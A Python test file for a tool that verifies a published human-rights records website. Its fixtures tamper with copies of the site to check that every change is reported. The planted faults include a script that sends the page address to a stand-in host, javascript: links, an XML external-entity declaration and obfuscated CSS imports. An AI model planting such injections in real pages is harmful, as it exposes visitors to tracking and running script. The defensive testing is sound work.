"""`assessments verify`: silent on a site as it was published, and every fault made in a copy is named; from a folder and over nginx."""

import gzip
import hashlib
import json
import re
import shutil
import socket
import sqlite3
import threading
from collections.abc import Callable
from contextlib import AbstractContextManager
from http.server import ThreadingHTTPServer
from pathlib import Path
from urllib.parse import urljoin

import pytest
from bs4 import BeautifulSoup

from generator.verify.copies import Folder, LeadsOnError, UnreadableError, copy_at
from generator.verify.flaws import Counts
from generator.verify.loads import loaded_by_script, loaded_by_styles
from generator.verify.page import facts_of
from generator.verify.reading import read
from generator.verify.site import verified
from generator.verify.targets import Edition, asks_another_host, place_of
from tests.browser.chromium import Quiet
from tests.conftest import run_assessments
from tests.moved import NEW, OLD
from tests.servers import caddy, nginx

_BASE = "https://follow-up-record.example/"


@pytest.mark.parametrize("made", ["built", "built_invented", "offline", "offline_invented", "moved", "offline_moved", "compressed"])
def test_a_site_as_it_was_published_has_no_flaw(made: str, request: pytest.FixtureRequest) -> None:
    site = request.getfixturevalue(made)
    found = verified(Folder(site), 2)
    assert found.flaws == ()
    assert found.counts.files == sum(path.is_file() for path in site.rglob("*")) - 1
    assert all(found.counts)


def test_it_counts_what_it_checked(built: Path) -> None:
    files = [path for path in built.rglob("*") if path.is_file() and path.name != "SHA256SUMS"]
    pages = [path for path in files if path.suffix == ".html"]
    links = [target for page in pages for target in _links_within(page, f"{_BASE}{page.relative_to(built).as_posix()}")]
    links += [target for styles in built.rglob("*.css") for target in re.findall(r"url\(([^)]*)\)", styles.read_text())]
    links += re.findall(r"<loc>(.*)</loc>", (built / "sitemap.xml").read_text())
    links += [target for feed in built.rglob("*.atom") for target in re.findall(rf'href="({_BASE}.*?)"', feed.read_text())]
    assert verified(Folder(built), 2).counts == Counts(
        files=len(files),
        bytes=sum(path.stat().st_size for path in files),
        pages=len(pages),
        links=len(links),
        anchors=sum("#" in target for target in links),
        permalinks=len((built / "data/permalinks.txt").read_text().split()),
        records=len(list(built.glob("ccpr/*/*/???-???.json"))) + len(list(built.glob("data/records/*.json"))),
    )


def _links_within(page: Path, here: str) -> list[str]:
    tags = BeautifulSoup(page.read_text(), "html.parser").find_all(True)
    targets = [str(tag[key]) for tag in tags for key in ("href", "src", "action") if tag.has_attr(key)]
    return [target for target in targets if urljoin(here, target).startswith(_BASE)]


def _page(site: Path, name: str, old: str, new: str) -> None:
    text = (site / name).read_text()
    assert old in text
    (site / name).write_text(text.replace(old, new, 1))


def _record(site: Path) -> None:
    record = json.loads((site / "ccpr/133/jor/jor-133.json").read_text())
    (site / "ccpr/133/jor/jor-133.json").write_text(json.dumps({**record, "procedure": "completed"}))


def _as_published(site: Path) -> None:
    """Write SHA256SUMS anew, as somebody who changes a site would."""
    files = sorted(path for path in site.rglob("*") if path.is_file() and path.name != "SHA256SUMS")
    sums = (f"{hashlib.sha256(path.read_bytes()).hexdigest()}  {path.relative_to(site).as_posix()}\n" for path in files)
    (site / "SHA256SUMS").write_text("".join(sums))


_PARAGRAPH = "ccpr/123/kaz/24/index.html"
_VERSION = "7cce47acf6cf8b1031c10085619cd14f8c0e3c7bd1c84149bda74446d23fee14"
_HIDDEN: dict[str, tuple[Callable[[Path], object], list[str]]] = {
    "a link to nothing": (
        lambda site: _page(site, _PARAGRAPH, 'href="../18/"', 'href="../19/"'),
        [f"{_PARAGRAPH}: LINK-DEAD leads to /ccpr/123/kaz/19/, which is not there"],
    ),
    "a link above the top": (
        lambda site: _page(site, "about/index.html", 'href="../states/"', 'href="../../states/"'),
        ["about/index.html: LINK-DEAD leads above the top of the site"],
    ),
    "a canonical address that is not there": (
        lambda site: _page(site, "cite/index.html", f'canonical" href="{_BASE}cite/"', f'canonical" href="{_BASE}citing/"'),
        ["cite/index.html: LINK-DEAD leads to /citing/, which is not there"],
    ),
    "an anchor that no page has": (
        lambda site: _page(site, "due/index.html", 'href="../about/#licence"', 'href="../about/#no-licence"'),
        ["due/index.html: ANCHOR-DEAD leads to /about/#no-licence; the page has no such place"],
    ),
    "an anchor that the page itself has not": (
        lambda site: _page(site, _PARAGRAPH, 'href="#reply-a"', 'href="#reply-d-p9"'),
        [f"{_PARAGRAPH}: ANCHOR-DEAD leads to #reply-d-p9 on itself, where no such place is"],
    ),
    "a promised anchor that is gone": (
        lambda site: _page(site, _PARAGRAPH, 'id="recommendation-f"', 'id="recommendation-g"'),
        [
            f"{_PARAGRAPH}: ANCHOR-DEAD leads to #recommendation-f on itself, where no such place is",
            "data/permalinks.txt: PERMALINK /ccpr/123/kaz/24/#recommendation-f was published and is not there: the page has no such place",
        ],
    ),
    "a picture in a style sheet that is not there": (
        lambda site: _page(site, "static/finding.css", "", '.x { background: url("none.svg") }\n'),
        ["static/finding.css: LINK-DEAD leads to /static/none.svg, which is not there"],
    ),
    "an address in the sitemap that is not there": (
        lambda site: _page(site, "sitemap.xml", f"<loc>{_BASE}due/</loc>", f"<loc>{_BASE}dew/</loc>"),
        ["sitemap.xml: LINK-DEAD leads to /dew/, which is not there"],
    ),
    "a picture from elsewhere": (
        lambda site: _page(site, "cite/index.html", "<article>", '<article><img srcset="//elsewhere.invalid/a.png 2x">'),
        ["cite/index.html: THIRD-PARTY makes a browser ask '//elsewhere.invalid/a.png'; "],
    ),
    "a style sheet that another one fetches": (
        lambda site: _page(site, "static/record.css", "", "@im\\port 'https://elsewhere.invalid/a.css';"),
        ["static/record.css: THIRD-PARTY makes a browser ask 'https://elsewhere.invalid/a.css'; "],
    ),
    "a script that asks another host": (
        lambda site: _page(site, "static/record.js", "", 'fetch("https://elsewhere.invalid/seen?" + location);'),
        ["static/record.js: THIRD-PARTY makes a browser ask 'https://elsewhere.invalid/seen?'; "],
    ),
    "a script in an attribute": (
        lambda site: _page(site, "cite/index.html", "<h1 ", '<h1 onclick="go()" '),
        ["cite/index.html: SCRIPT holds 'onclick of <h1>', which runs or leads astray; "],
    ),
    "a script within a page": (
        lambda site: _page(site, "cite/index.html", "<article>", "<article><script>go()</script>"),
        ["cite/index.html: SCRIPT holds '<script> within the page', which runs or leads astray; "],
    ),
    "a link that runs, in two lines": (
        lambda site: _page(site, "cite/index.html", "<article>", '<article><a href="java&#10;script:go()">x</a>'),
        [r"cite/index.html: SCRIPT holds 'java\nscript:go()', which runs or leads astray; "],
    ),
    "a picture in the shadow of an element": (
        lambda site: _page(
            site,
            "cite/index.html",
            "<article>",
            '<article><div><template shadowrootmode="open"><img src="//elsewhere.invalid"></template></div>',
        ),
        ["cite/index.html: SCRIPT holds '<template>', which runs or leads astray; "],
    ),
    "a picture that runs": (
        lambda site: _page(site, "static/favicon.svg", "</svg>", "<script>go()</script></svg>"),
        ["static/favicon.svg: SCRIPT holds '<script> within the page', which runs or leads astray; "],
    ),
    "a page that others name otherwise": (
        lambda site: (site / "cite/page.htm").write_text("<img src=//elsewhere.invalid/a.png>"),
        ["cite/page.htm: THIRD-PARTY makes a browser ask '//elsewhere.invalid/a.png'; "],
    ),
    "a page in another encoding": (
        lambda site: (site / "cite/page.html").write_text("<img src=//elsewhere.invalid/a.png>", encoding="utf-16"),
        ["cite/page.html: ENCODING is no text in UTF-8 (byte 1); what a browser would make of it is not known"],
    ),
    "a feed with a style sheet that runs": (
        lambda site: _page(site, "feed.atom", "<feed", '<?xml-stylesheet type="text/xsl" href="https://elsewhere.invalid/x"?><feed'),
        [
            "feed.atom: SCRIPT holds '<?xml-', which runs or leads astray; ",
        ],
    ),
    "an address in bold": (
        lambda site: _page(site, "cite/index.html", "<article>", "<article> rupert<b>@</b>hentzau.example "),
        ["cite/index.html: E-MAIL holds rupert@hentzau.example"],
    ),
    "an e-mail address": (
        lambda site: _page(site, "cite/index.html", "<article>", "<article>Rudolf: king&#64;strelsau.example"),
        ["cite/index.html: E-MAIL holds king@strelsau.example"],
    ),
    "an e-mail address in the database": (
        lambda site: _changed_database(site),
        ["data/assessments.sqlite: E-MAIL holds king@strelsau.example"],
    ),
    "a record that says something else": (_record, ["ccpr/133/jor/jor-133.json: RECORD holds a record with the hash "]),
    "a version that says something else": (
        lambda site: _page(site, f"data/records/{_VERSION}.json", "torture", "virtue"),
        [f"data/records/{_VERSION}.json: RECORD has the hash "],
    ),
}
"""Faults by somebody who also writes SHA256SUMS anew, and the beginning of each line that names them."""


def _changed_database(site: Path) -> None:
    with sqlite3.connect(site / "data" / "assessments.sqlite") as data:
        data.execute("UPDATE topics SET editorial_name = ' king@strelsau.example '")


def _lines(site: Path) -> list[str]:
    return [str(problem) for problem in verified(Folder(site), 2).flaws]


def _named(lines: list[str], expected: list[str]) -> None:
    """Each expected line is there, and no other."""
    assert len(lines) == len(expected), lines
    assert [line for line, start in zip(sorted(lines), sorted(expected), strict=True) if not line.startswith(start)] == []


def test_what_was_tampered_with_is_found_though_the_sums_agree(built: Path, tmp_path: Path) -> None:
    site = shutil.copytree(built, tmp_path / "site")
    for make, _ in _HIDDEN.values():
        make(site)
    _as_published(site)
    _named(_lines(site), [line for _, lines in _HIDDEN.values() for line in lines])


def test_a_changed_byte_a_removed_page_and_an_added_file_are_found(built: Path, tmp_path: Path) -> None:
    site = shutil.copytree(built, tmp_path / "site")
    _page(site, "ccpr/123/kaz/index.md", "not satisfactory", "not satisfactorY")
    (site / "topics/torture/index.html").unlink()
    (site / "ccpr/123/kaz/annex.html").write_text("<p>added")
    (site / "linked").symlink_to("/")
    with (site / "SHA256SUMS").open("a") as sums:
        sums.write(f"{'0' * 64}  ../../secret\n")
    done = run_assessments("verify", "site", cwd=tmp_path)
    expected = [
        f"SHA256SUMS: SUMS-LINE line {len((site / 'SHA256SUMS').read_text().splitlines())} is '0000",
        "ccpr/123/kaz/18/index.html: LINK-DEAD leads to /topics/torture/, which is not there, and so do 3 other files",
        "ccpr/123/kaz/annex.html: FILE-ADDED is not of the site: SHA256SUMS does not list it",
        "ccpr/123/kaz/index.md: FILE-CHANGED has the SHA-256 ",
        "data/permalinks.txt: PERMALINK /topics/torture/ was published and is not there",
        "linked: FILE-ADDED is not of the site: SHA256SUMS does not list it",
        "linked: FILE-UNREADABLE is no file",
        "topics/torture/index.html: FILE-MISSING is missing",
    ]
    _named(done.stdout.splitlines(), expected)
    assert done.returncode == 1
    assert "; 8 problems" in done.stderr


def test_a_place_that_moved_and_is_gone_is_found(moved: Path, tmp_path: Path) -> None:
    site = shutil.copytree(moved, tmp_path / "site")
    shutil.rmtree(site / "organizations" / NEW)
    lines = _lines(site)
    gone = f"{OLD}/ was published and leads on to /organizations/{NEW}/, which is not there"
    assert f"data/permalinks.txt: PERMALINK /organizations/{gone}" in lines


def test_in_the_offline_edition_a_link_names_a_file(offline: Path, tmp_path: Path) -> None:
    site = shutil.copytree(offline, tmp_path / "site")
    _page(site, "due/index.html", 'href="../states/index.html"', 'href="../states/"')
    _page(site, "cite/index.html", 'href="../states/index.html"', 'href="/states/"')
    _as_published(site)
    folder = "due/index.html: LINK-DEAD leads to the folder of /states/, which opens no page without a server"
    assert _lines(site) == ["cite/index.html: LINK-DEAD leads above the top of the site", folder]


def test_a_compressed_file_that_unpacks_to_another_is_found_though_the_sums_agree(compressed: Path, tmp_path: Path) -> None:
    site = shutil.copytree(compressed, tmp_path / "site")
    page, other = "states/rur/index.html", "states/fre/index.html"
    (site / f"{page}.gz").write_bytes(gzip.compress((site / page).read_bytes().replace(b"Ruritania", b"Arcadia")))
    (site / f"{page}.br").write_bytes((site / f"{other}.br").read_bytes())
    for name, damage in {"index.html.gz": slice(-9), "index.html.br": slice(-9), "static/record.css.gz": slice(None)}.items():
        rest = b"" if damage.stop else gzip.compress(b"more")
        (site / name).write_bytes((site / name).read_bytes()[damage] + rest)
    (site / "static/record.css.br").write_bytes((site / "static/record.css.br").read_bytes() + b"more")
    (site / "none.txt.gz").write_bytes(gzip.compress(b"x" * 5_000_000))
    _as_published(site)
    falsely = [f"{page}.gz", f"{page}.br", "index.html.gz", "index.html.br", "static/record.css.gz", "static/record.css.br", "none.txt.gz"]
    _named(_lines(site), [f"{name}: COMPRESSED does not unpack to what {name.rpartition('.')[0]} holds" for name in falsely])


@pytest.mark.parametrize("server", [nginx, caddy])
def test_over_a_server_compressed_files_are_held_against_theirs(
    compressed: Path, tmp_path: Path, server: Callable[..., AbstractContextManager[str]]
) -> None:
    with server(compressed, tmp_path) as address:
        done = run_assessments("verify", address, cwd=tmp_path)
    assert (done.stdout, done.returncode) == ("", 0)


class _LeadsOn(Quiet):
    def do_GET(self) -> None:  # noqa: N802 — the name is the library’s
        """Lead on from one page, with the whole of the address as some servers do; nothing else is there."""
        there = {"/a/": f"http://{self.headers['Host']}/b/?c", "/x/": "http://[::1]:1/b/"}.get(self.path)
        self.send_response(301 if there else 404)
        self.send_header("Location", there or "")
        self.send_header("Content-Length", "0")
        self.end_headers()


class _OverIPv6(ThreadingHTTPServer):
    address_family = socket.AF_INET6


def test_a_server_is_followed_within_the_site_by_whatever_name_it_gives_itself() -> None:
    with _OverIPv6(("::1", 0), _LeadsOn) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        copy = copy_at(f"http://[::1]:{server.server_port}")
        with pytest.raises(LeadsOnError, match=r"^b/\?c$"):
            list(copy.pieces("a/index.html"))
        with pytest.raises(UnreadableError, match="which is not of this site"):
            list(copy.pieces("x/index.html"))
        server.shutdown()


def test_sums_that_list_nothing_are_no_proof(tmp_path: Path) -> None:
    (tmp_path / "SHA256SUMS").write_text("")
    assert "SHA256SUMS: SUMS-LINE lists no file; nothing tells what the site is made of" in _lines(tmp_path)


def test_over_a_server_the_same_is_found(moved: Path, tmp_path: Path) -> None:
    site = shutil.copytree(moved, tmp_path / "site")
    (tmp_path / "nginx").mkdir()
    with nginx(site, tmp_path / "nginx") as address:
        done = run_assessments("verify", address, cwd=tmp_path, http_proxy="http://127.0.0.1:9/")
        assert (done.stdout, done.returncode) == ("", 0)
        led_on = 2  # files at old addresses: the server gives out what they have become
        assert done.stderr.startswith(f"checked: {len((site / 'SHA256SUMS').read_text().splitlines()) - led_on} files, ")
        _page(site, "ccpr/903/rur/12/index.html", 'id="recommendation-a"', 'id="recommendation-x"')
        (site / "states/rur/index.html").unlink()
        done = run_assessments("verify", address, cwd=tmp_path)
    assert done.returncode == 1
    for line in (
        "ccpr/903/rur/12/index.html: FILE-CHANGED has the SHA-256 ",
        "ccpr/903/rur/12/index.html: ANCHOR-DEAD leads to #recommendation-a on itself, ",
        "data/permalinks.txt: PERMALINK /ccpr/903/rur/12/#recommendation-a was published and is not there",
        "data/permalinks.txt: PERMALINK /ccpr/903/rur/13/#recommendation-a was published and leads on to ",
        "data/permalinks.txt: PERMALINK /states/rur/ was published and is not there",
        "states/rur/index.html: FILE-MISSING is missing: the server answers 403 Forbidden",
    ):
        assert any(found.startswith(line) for found in done.stdout.splitlines()), (line, done.stdout)


@pytest.mark.parametrize(
    ("named", "message"),
    [
        ("https://follow-up-record.example/", "is not on this machine, and nothing is asked of another"),
        ("http://127.0.0.1.elsewhere.invalid/", "is not on this machine, and nothing is asked of another"),
        ("http://127.0.0.1@elsewhere.invalid/", "is not on this machine, and nothing is asked of another"),
        ("http://127.0.0.1:port/", "is no address: "),
        ("no-such-folder", "is no folder; name the folder of a site, or its address: http://127.0.0.1:8000/"),
    ],
)
def test_what_is_no_copy_is_wrong_usage(named: str, message: str, tmp_path: Path) -> None:
    done = run_assessments("verify", named, cwd=tmp_path)
    assert done.returncode == 2
    assert f"Error: {named} {message}" in done.stderr


def test_a_folder_without_sums_says_so_and_no_more(tmp_path: Path) -> None:
    assert _lines(tmp_path) == ["SHA256SUMS: FILE-MISSING is missing; without it nothing tells what the site is made of"]


@pytest.mark.parametrize(
    ("markup", "loaded"),
    [
        ('<img src="a" srcset="b 1x, c 2x">', ["a", "b", "c"]),
        ("<svg><use href=a></use><image xlink:href=b></image></svg>", ["a", "b"]),
        ("<link rel='alternate stylesheet' href=a><link rel=alternate href=b><link rel='DNS-prefetch' href=c>", ["a", "c"]),
        ("<iframe srcdoc='&lt;img src=a>'></iframe><object data=b></object><video poster=c></video>", ["a", "b", "c"]),
        ("<form action=a><button formaction=b></form><a href=c ping=d>", ["a", "b", "d"]),
        ("<noscript><meta http-equiv=Refresh content='0; URL=a'></noscript>", ["a"]),
        ("<p style='background: url(a)'><style>p { background: url('b') }</style>", ["a", "b"]),
        ("<script>/*</script><img src=a>*/</script>", ["a"]),
        ("<style>p { background: url(a", ["a"]),
        ("<img lowsrc=a attributionsrc=b>", ["a", "b"]),
        ("<textarea><img src=a></textarea><!-- <img src=b> --><img src=c", []),
    ],
)
def test_a_page_is_read_as_a_browser_reads_it(markup: str, loaded: list[str]) -> None:
    assert sorted(facts_of(markup).loads) == loaded


@pytest.mark.parametrize(
    ("markup", "runs"),
    [
        ("<meta charset=utf-16>", "<meta charset=utf-16>"),
        ("<iframe srcdoc='&lt;p onclick=a>'></iframe>", "<iframe>"),
        ("<svg><a><animate attributeName=href values=javascript:a /></a></svg>", "<animate>"),
        ("<meta charset=UTF-8><script src=a></script><script type='application/ld+json'>{}</script>", None),
    ],
)
def test_what_runs_or_leads_astray(markup: str, runs: str | None) -> None:
    assert facts_of(markup).runs == ([runs] if runs else [])


@pytest.mark.parametrize(
    ("markup", "is_more"),
    [
        ('<feed xmlns="http://www.w3.org/2005/Atom"><summary>type="html" xmlns="x"</summary></feed>', False),
        ('<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"></urlset>', False),
        ('<feed><summary type = "html">&lt;img src="https://e.invalid/"></summary></feed>', True),
        ("<urlset><s:script xmlns:s='http://www.w3.org/1999/xhtm&#108;' src='https://e.invalid/'/></urlset>", True),
        ("<!DOCTYPE feed [<!ENTITY x SYSTEM 'https://e.invalid/'>]><feed/>", True),
    ],
)
def test_a_feed_that_is_more_than_data_is_named(markup: str, is_more: bool, tmp_path: Path) -> None:
    (tmp_path / "feed.atom").write_text(markup)
    found = read(Folder(tmp_path), "feed.atom", Edition("", offline=False)).flaws
    assert {flaw.code for flaw in found} == ({"SCRIPT"} if is_more else set())


@pytest.mark.parametrize(
    "target",
    ["https://e.invalid/", "//e.invalid", "\\\\e.invalid\\a", " h\tttps:\n//e.invalid", "HTTP:e.invalid", "blob:x", "data:text/html,x"],
)
def test_what_asks_another_host_is_known_however_it_is_written(target: str) -> None:
    assert asks_another_host(target)


def test_pictures_within_a_page_and_its_own_files_ask_nobody() -> None:
    assert [target for target in ("data:image/png;base64,x", "a/b.png", "/a.png", "?q=//x", "#//x") if asks_another_host(target)] == []


@pytest.mark.parametrize(
    ("styles", "loaded"),
    [
        ("a { b: u\\72 l( 'x.png' ) }", ["x.png"]),
        ('/* url(no) */ @import "x.css"; @namespace url(http://www.w3.org/2000/svg);', ["x.css"]),
        ("a { b: image-set('https://e.invalid/x' 1x) }", ["https://e.invalid/x"]),
        ("a::after { content: ' // ' attr(href) }", []),
    ],
)
def test_what_styles_load(styles: str, loaded: list[str]) -> None:
    assert list(loaded_by_styles(styles)) == loaded


def test_what_scripts_name() -> None:
    script = (
        '// see https://e.invalid/doc\nfetch(`//e.invalid/a`); new WebSocket(\'wss://e.invalid\'); x = "said \\"https://e.invalid/b\\"";'
    )
    assert list(loaded_by_script(script)) == ["//e.invalid/a", "wss://e.invalid"]
    assert list(loaded_by_script("new URL(`https://example.com${path}`); fetch('https://example.com.invalid/')")) == [
        "https://example.com.invalid/"
    ]


@pytest.mark.parametrize(
    ("target", "place"),
    [
        ("", "/a/b/"),
        ("?q=x#y", "/a/b/#y"),
        ("#y%20z:~:text=w", "/a/b/#y z"),
        ("..", "/a/"),
        ("../c.css?v=1", "/a/c.css"),
        ("/base/d/", "/d/"),
        ("https://host.invalid/base/", "/"),
        ("https://host.invalid/base", "/"),
        ("%69ndex.md", "/a/b/index.md"),
        ("https://host.invalid/", None),
        ("https://host.invalid.invalid/base/", None),
    ],
)
def test_where_a_link_leads(target: str, place: str | None) -> None:
    found = place_of(target, "a/b/index.html", Edition("https://host.invalid/base/", offline=False))
    assert (str(found) if found else None) == place


@pytest.mark.parametrize("target", ["../../../x", "/other/", "../../.."])
def test_a_link_above_the_top_leads_nowhere(target: str) -> None:
    found = place_of(target, "a/b/index.html", Edition("https://host.invalid/base/", offline=False))
    assert found is not None
    assert found.name == ""
